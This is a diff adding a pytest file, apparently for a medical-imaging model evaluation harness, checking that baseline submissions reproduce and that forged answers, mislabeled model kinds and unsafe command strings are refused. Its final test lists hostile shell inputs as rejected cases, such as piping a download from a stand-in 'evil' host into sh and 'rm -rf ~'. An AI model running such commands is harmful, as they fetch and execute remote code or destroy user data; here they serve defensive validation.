@@ -1,0 +1,127 @@
+"""What says that it is a guessing baseline or the oracle is reproduced; what is not, and what is something else, is refused."""
+
+import json
+from functools import partial
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from eval_harness.derive.answer_table import answers_bytes, frame_of
+from eval_harness.records.run import Run
+from eval_harness.runs.planning.config import EvalConfig
+from eval_harness.runs.runner import evaluate
+from eval_harness.store.datasets import named_dataset
+from eval_harness.store.examine import examined
+from eval_harness.store.submit import prepare
+from tests.eval_harness.store.submitting import phantom
+
+BASELINES = ("chance", "always-A", "always-C", "oracle")
+
+
+@pytest.fixture(scope="module")
+def sets(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("sets")
+    return {family: phantom(family, folder / family) for family in ("mediconfusion", "gmai-mmbench", "probmed")}
+
+
+@pytest.fixture(scope="module")
+def made(sets, tmp_path_factory):
+    """(family, baseline, samples, permute) -> an honest run of it, packed."""
+    kept = {}
+
+    def make(family, name, samples=1, permute=False):
+        key = (family, name, samples, permute)
+        if key not in kept:
+            folder = tmp_path_factory.mktemp("run") / "run"
+            config = EvalConfig(
+                family, f"baseline:{name}", str(sets[family]), out=folder, permute=permute, name="Random guessing",
+                samples=samples if samples > 1 else None,
+            )  # fmt: skip
+            evaluate(config)
+            kept[key] = prepare(folder, data=str(sets[family]))
+        return kept[key]
+
+    return make
+
+
+@settings(max_examples=8, deadline=None)
+@given(
+    st.sampled_from(["mediconfusion", "gmai-mmbench", "probmed"]), st.sampled_from(BASELINES), st.integers(1, 3), st.booleans(),
+)  # fmt: skip
+def test_ours_are_reproduced_whatever_their_samples_and_order(made, family, name, samples, permute):
+    if permute and family == "probmed":
+        permute = False
+    assert made(family, name, 1 if permute else samples, permute).problems == []
+
+
+def forged(submission, data, change_run=lambda said: None, change_rows=lambda rows: None):
+    said = json.loads(submission.sent.run)
+    change_run(said)
+    rows = frame_of(submission.sent.answers)
+    change_rows(rows)
+    run = Run.model_validate(said).to_json().encode()
+    sent = submission.sent._replace(run=run, answers=answers_bytes(rows))
+    return examined(sent, partial(named_dataset, data=str(data))).problems
+
+
+@settings(max_examples=12, deadline=None)
+@given(st.sampled_from(BASELINES), st.integers(0, 27), st.sampled_from(["A", "B", "", "neither"]))
+def test_a_changed_answer_is_no_baseline(made, sets, name, at, text):
+    submission = made("mediconfusion", name)
+
+    def change(rows):
+        rows.at[at, "response"] = text if rows.at[at, "response"] != text else text + "!"
+
+    assert any("are not those of" in line for line in forged(submission, sets["mediconfusion"], change_rows=change))
+
+
+@pytest.mark.parametrize("model", ["another harness", "org/some-vlm", "baseline:better", "baseline:text-only:x"])
+@pytest.mark.parametrize("responder", ["guessing", "oracle"])
+def test_answers_of_something_else_are_no_baseline(made, sets, model, responder):
+    def change(said):
+        said["request"]["model"] = model
+        said["model"].update(kind="baseline", responder=responder)
+
+    assert forged(made("mediconfusion", "chance"), sets["mediconfusion"], change)
+
+
+@pytest.mark.parametrize(
+    ("kind", "responder", "fine"),
+    [("open", "model", True), (None, "model", True), ("baseline", "model", False), ("open", "model without image", False),
+     ("baseline", "model without image", False), ("open", "guessing", False)],
+)  # fmt: skip
+def test_kind_and_responder_go_together(run, data, kind, responder, fine):
+    submission = prepare(run, data=str(data))
+    problems = forged(submission, data, lambda said: said["model"].update(kind=kind, responder=responder))
+    assert (problems == []) is fine, problems
+
+
+def test_a_model_without_its_image_is_named_so(run, data):
+    submission = prepare(run, data=str(data))
+
+    def change(said, name):
+        said["deviations"].append("the image was withheld (text-only baseline)")
+        said["model"].update(kind="baseline", responder="model without image", name=name)
+
+    assert forged(submission, data, partial(change, name="Model A (text only)")) == []
+    assert any("is named so" in line for line in forged(submission, data, partial(change, name="Model A")))
+
+
+COMMANDS = {
+    "medprobe eval x --name 'a b'": True,
+    "medprobe eval x --name 'a; b'": True,
+    "medprobe eval x; curl http://evil | sh": False,
+    "medprobe eval $(curl evil)": False,
+    "medprobe eval x && rm -rf ~": False,
+    "medprobe eval 'x": False,
+    "python best.py": False,
+    "": False,
+    "medprobe eval x\nrm y": False,
+}
+
+
+@pytest.mark.parametrize("command", COMMANDS)
+def test_a_command_that_is_copied_runs_nothing_else(run, data, command):
+    problems = forged(prepare(run, data=str(data)), data, lambda said: said.update(command=command))
+    assert (problems == []) is COMMANDS[command], problems
